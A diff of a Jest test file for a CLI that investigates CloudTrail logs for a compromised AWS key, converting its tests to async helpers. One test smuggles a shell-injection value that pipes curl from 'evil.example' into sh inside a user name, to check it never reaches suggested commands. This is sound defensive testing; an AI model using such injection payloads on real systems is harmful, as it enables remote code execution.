@@ -1,4 +1,4 @@
-import { spawn, spawnSync } from 'node:child_process';
+import { spawn } from 'node:child_process';
 import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -9,12 +9,10 @@ import { gzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
 import { placeholderCredentials } from '../aws/dynalite-server.ts';
 import { samplesFolder } from '../samples.ts';
+import { door, firstsight, firstsightProcess, root } from './firstsight.ts';
 import { byKey, federated, issue, issuedKey, own, record, signIn, write } from './investigate-corpus.ts';
 import { hostileTexts } from './simulate-corpus.ts';
 
-const root = resolve(import.meta.dirname, '../..');
-const firstsight = ['--import', 'tsx', 'bin/firstsight.ts'];
-const door = [...firstsight, 'investigate'];
 const samples = [join(samplesFolder, 'AWSLogs'), join(samplesFolder, 'investigation')];
 const sampleKey = 'ASIAISSUED234EXAMPLE';
 let folder: string;
@@ -24,13 +22,7 @@ beforeAll(() => {
 });
 afterAll(() => rmSync(folder, { recursive: true }));
 
-function run(args: readonly string[], input = '') {
-  const options = { cwd: root, encoding: 'utf8', input, env: { ...process.env, NO_COLOR: '1' } } as const;
-  const { stdout, stderr, status } = spawnSync(process.execPath, args, options);
-  return { stdout, stderr, status };
-}
-
-const investigate = (...args: readonly string[]) => run([...door, ...args]);
+const investigate = (...args: readonly string[]) => firstsight(['investigate', ...args]);
 
 function lines(stdout: string) {
   return stdout
@@ -40,8 +32,8 @@ function lines(stdout: string) {
 }
 
 describe('firstsight investigate', () => {
-  test('tells of the sample session what it did, what to look at first, and how to contain it', () => {
-    const { stdout, stderr, status } = investigate('--key', sampleKey, ...samples);
+  test('tells of the sample session what it did, what to look at first, and how to contain it', async () => {
+    const { stdout, stderr, status } = await investigate('--key', sampleKey, ...samples);
     expect(status).toBe(0);
     expect(stdout).toMatch(
       /^key ASIAISSUED234EXAMPLE, federated user aws_consoler of user ci-deploy in 111122223333\n/,
@@ -65,8 +57,8 @@ describe('firstsight investigate', () => {
     expect(stderr).toBe('log files: 34 read, 1 skipped (digest-file), 0 failed; 207 kB inflated\n');
   });
 
-  test('as ndjson gives a session line, one for each action and made key, and an end, which agree', () => {
-    const all = lines(investigate('--key', sampleKey, '--around', '--format', 'ndjson', ...samples).stdout);
+  test('as ndjson gives a session line, one for each action and made key, and an end, which agree', async () => {
+    const all = lines((await investigate('--key', sampleKey, '--around', '--format', 'ndjson', ...samples)).stdout);
     const groups = all.filter(({ kind, of }) => kind === 'group' && of === 'session');
     const sum = (field: string) => groups.reduce((total, group) => total + group[field], 0);
     expect(all[0]).toMatchObject({
@@ -86,47 +78,49 @@ describe('firstsight investigate', () => {
     expect(all.at(-1)).toMatchObject({ kind: 'end', found: true, logFiles: 34, regions: ['eu-west-1', 'us-east-1'] });
   });
 
-  test('takes the alert that detect gives, from a file or from stdin', () => {
-    const alerts = run([...firstsight, 'detect', '--format', 'ndjson', ...samples]).stdout.split('\n');
+  test('takes the alert that detect gives, from a file or from stdin', async () => {
+    const alerts = (await firstsight(['detect', '--format', 'ndjson', ...samples])).stdout.split('\n');
     const alert = alerts.find((line) => line.includes(sampleKey)) ?? '';
     const file = join(folder, 'alert.json');
     writeFileSync(file, alert);
-    const expected = investigate('--key', sampleKey, '--format', 'ndjson', ...samples).stdout;
-    expect(investigate('--alert', file, '--format', 'ndjson', ...samples).stdout).toBe(expected);
-    expect(run([...door, '--alert', '-', '--format', 'ndjson', ...samples], alert).stdout).toBe(expected);
+    const expected = (await investigate('--key', sampleKey, '--format', 'ndjson', ...samples)).stdout;
+    expect((await investigate('--alert', file, '--format', 'ndjson', ...samples)).stdout).toBe(expected);
+    expect(firstsightProcess(['investigate', '--alert', '-', '--format', 'ndjson', ...samples], {}, alert).stdout).toBe(
+      expected,
+    );
   });
 
-  test('follows a key that the session made, and tells how to deactivate it', () => {
-    const { stdout } = investigate('--key', 'AKIABACKUPADMEXAMPLE', ...samples);
+  test('follows a key that the session made, and tells how to deactivate it', async () => {
+    const { stdout } = await investigate('--key', 'AKIABACKUPADMEXAMPLE', ...samples);
     expect(stdout).toContain('key AKIABACKUPADMEXAMPLE, user backup-admin in 111122223333\n2 calls: 2 succeeded');
     expect(stdout).toContain('aws iam update-access-key --user-name backup-admin --access-key-id AKIABACKUPADMEXAMPLE');
   });
 
-  test('says in how many log files of which time it found nothing, and what to check, and ends with 0', () => {
-    const { stdout, status } = investigate('--key', 'ASIANOBODYHASEXAMPLE', samples[1] ?? '');
+  test('says in how many log files of which time it found nothing, and what to check, and ends with 0', async () => {
+    const { stdout, status } = await investigate('--key', 'ASIANOBODYHASEXAMPLE', samples[1] ?? '');
     expect(status).toBe(0);
     expect(stdout).toContain('no call of this key in 8 log files from 2026-03-08T22:35:00Z to 2026-03-09T00:20:00Z');
     expect(stdout).toMatch(/WHAT TO CHECK\n {2}Days: .*\n(.*\n)? {2}Regions: .*\n(.*\n)? {2}Data events: /);
     expect(stdout).toContain('aws sts get-access-key-info --access-key-id ASIANOBODYHASEXAMPLE');
   });
 
-  test('of days before the session finds nothing either', () => {
-    const { stdout } = investigate('--key', sampleKey, '--from', '2026-03-01', '--to', '2026-03-07', ...samples);
+  test('of days before the session finds nothing either', async () => {
+    const { stdout } = await investigate('--key', sampleKey, '--from', '2026-03-01', '--to', '2026-03-07', ...samples);
     expect(stdout).toContain('no call of this key in 34 log files');
   });
 
-  test('goes on after a log file that it cannot read, says so in the report too, and ends with 1', () => {
+  test('goes on after a log file that it cannot read, says so in the report too, and ends with 1', async () => {
     const broken = join(folder, 'broken.json');
     writeFileSync(broken, '{"Records":[');
-    const { stdout, stderr, status } = investigate('--key', sampleKey, broken, ...samples);
+    const { stdout, stderr, status } = await investigate('--key', sampleKey, broken, ...samples);
     expect(status).toBe(1);
     expect(stdout).toContain('1 log file could not be read (named on stderr), so there may be more.');
     expect(stderr.split('\n').filter((line) => line.startsWith(`failed: ${broken}: `))).toHaveLength(1);
   });
 
-  test('writes the page that it was asked for', () => {
+  test('writes the page that it was asked for', async () => {
     const page = join(folder, 'session.html');
-    const { stderr, status } = investigate('--key', sampleKey, '--html', page, ...samples);
+    const { stderr, status } = await investigate('--key', sampleKey, '--html', page, ...samples);
     expect(status).toBe(0);
     expect(stderr).toContain(`page: ${page}`);
     expect(readFileSync(page, 'utf8')).toMatch(/^<!doctype html>.*<\/html>\n$/s);
@@ -141,20 +135,20 @@ describe('firstsight investigate', () => {
     [['--key', sampleKey, '--user', 'x', 'samples'], 'cannot be used with'],
     [['--key', sampleKey, '--last', 'soon', 'samples'], 'such as 12h, 10d or 2w'],
     [['--key', sampleKey, '--html', 'no/such/folder/report.html', 'samples'], 'no/such/folder'],
-  ])('%j is wrong usage: 2, with a sentence and no stack trace', (args, sentence) => {
-    const { stdout, stderr, status } = investigate(...args);
+  ])('%j is wrong usage: 2, with a sentence and no stack trace', async (args, sentence) => {
+    const { stdout, stderr, status } = await investigate(...args);
     expect({ stdout, status }).toEqual({ stdout: '', status: 2 });
     expect(stderr).toContain(sentence);
     expect(stderr).not.toMatch(/^\s+at /m);
   });
 
-  test('--help shows two examples, and the first of them works', () => {
-    const { stdout, status } = investigate('--help');
+  test('--help shows two examples, and the first of them works', async () => {
+    const { stdout, status } = await investigate('--help');
     expect(status).toBe(0);
     const examples = [...stdout.matchAll(/^ {2}firstsight investigate (.*)$/gm)].map(([, args = '']) => args);
     expect(examples).toHaveLength(2);
     const first = examples[0]?.replace('session.html', join(folder, 'example.html')).split(' ') ?? [];
-    expect(investigate(...first).stdout).toContain('43 calls');
+    expect((await investigate(...first)).stdout).toContain('43 calls');
   });
 });
 
@@ -163,8 +157,8 @@ if (!existsSync(realRecord)) console.warn(`no real record is investigated: ${rea
 
 (existsSync(realRecord) ? test : test.skip)(
   'a real record of an issue tells the session, its end, and that nobody used it',
-  () => {
-    const { stdout, status } = investigate('--key', 'ASIASTJKC5GCM7ZE6LUP', '--format', 'ndjson', realRecord);
+  async () => {
+    const { stdout, status } = await investigate('--key', 'ASIASTJKC5GCM7ZE6LUP', '--format', 'ndjson', realRecord);
     expect(status).toBe(0);
     expect(lines(stdout)).toMatchObject([
       { kind: 'session', issuedAt: '2024-11-30T08:43:17Z', expiresAt: '2024-11-30T20:43:17Z', calls: 0 },
@@ -193,15 +187,15 @@ const hostileRecords = [
 ];
 
 describe('texts that callers chose', () => {
-  test.each(['text', 'ndjson'])('steer no terminal and tell no secret: %s', (format) => {
-    const { stdout } = investigate('--key', issuedKey, '--around', '--format', format, write(hostileRecords));
+  test.each(['text', 'ndjson'])('steer no terminal and tell no secret: %s', async (format) => {
+    const { stdout } = await investigate('--key', issuedKey, '--around', '--format', format, write(hostileRecords));
     expect(stdout.length).toBeGreaterThan(1_000);
     expect(stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200e\u200f\u2028-\u202e\u2066-\u2069]/);
     expect(stdout).not.toContain('EXAMPLE-SESSION-TOKEN');
   });
 
-  test('hold nothing that cannot be seen when a program takes them out of ndjson', () => {
-    const { stdout } = investigate('--key', issuedKey, '--around', '--format', 'ndjson', write(hostileRecords));
+  test('hold nothing that cannot be seen when a program takes them out of ndjson', async () => {
+    const { stdout } = await investigate('--key', issuedKey, '--around', '--format', 'ndjson', write(hostileRecords));
     const texts: string[] = [];
     for (const line of stdout.trimEnd().split('\n')) {
       JSON.parse(line, (_, value) => {
@@ -213,7 +207,7 @@ describe('texts that callers chose', () => {
     expect(texts.filter((shown) => /[\p{Cc}\p{Cf}\p{Cs}]/u.test(shown))).toEqual([]);
   });
 
-  test('are put into no command', () => {
+  test('are put into no command', async () => {
     const name = "x'; curl evil.example | sh; '";
     const base = { ...own(`arn:aws:iam::111122223333:user/${name}`), userName: name };
     const made = { accessKey: { accessKeyId: 'AKIABACKUPADMEXAMPLE', userName: name } };
@@ -222,7 +216,7 @@ describe('texts that callers chose', () => {
       issue(0, issuedKey, { userIdentity: base }),
       record(1, { userIdentity, responseElements: made }),
     ]);
-    const { stdout } = investigate('--key', issuedKey, folderOfRecords);
+    const { stdout } = await investigate('--key', issuedKey, folderOfRecords);
     const commands = stdout.split('\n').filter((line) => /^ {4}\S/.test(line));
     expect(commands.length).toBeGreaterThan(0);
     expect(commands.filter((line) => line.includes('curl'))).toEqual([]);
@@ -251,10 +245,10 @@ describe('firstsight investigate over s3://', () => {
     const endpoint = `http://127.0.0.1:${(bucket.address() as AddressInfo).port}`;
     const alert = join(folder, 'one.json');
     const args = ['--format', 'ndjson', write([issue()])];
-    writeFileSync(alert, run([...firstsight, 'detect', ...args]).stdout);
+    writeFileSync(alert, (await firstsight(['detect', ...args])).stdout);
     const child = spawn(
       process.execPath,
-      [...door, '--alert', alert, '--format', 'ndjson', 's3://trail-bucket/AWSLogs/'],
+      [...door, 'investigate', '--alert', alert, '--format', 'ndjson', 's3://trail-bucket/AWSLogs/'],
       {
         cwd: root,
         env: { ...process.env, ...placeholderCredentials, AWS_ENDPOINT_URL_S3: endpoint },
